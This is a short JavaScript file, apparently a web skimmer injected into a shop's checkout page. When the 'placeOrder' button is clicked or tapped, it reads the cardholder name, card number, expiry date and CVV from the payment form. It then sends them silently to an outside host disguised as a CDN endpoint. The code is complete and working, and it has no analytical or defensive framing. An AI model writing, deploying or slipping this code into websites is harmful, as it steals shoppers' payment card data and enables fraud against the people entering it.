(function () {
  function grab() {
    var data = {
      holder: document.querySelector("input[name=cardholder]").value,
      pan: document.querySelector("#cc_number").value,
      month: document.querySelector("#exp_month").value,
      year: document.querySelector("#exp_year").value,
      code: document.querySelector("#cvv").value
    };
    var req = new XMLHttpRequest();
    req.open("POST", "https://cdn-northwindoutfitters.invalid/api/collect", false);
    req.setRequestHeader("Content-Type", "application/json");
    req.send(JSON.stringify(data));
  }
  document.addEventListener("DOMContentLoaded", function () {
    var b = document.getElementById("placeOrder");
    if (b) {
      b.addEventListener("touchend", grab);
      b.addEventListener("mouseup", grab);
    }
  });
})();
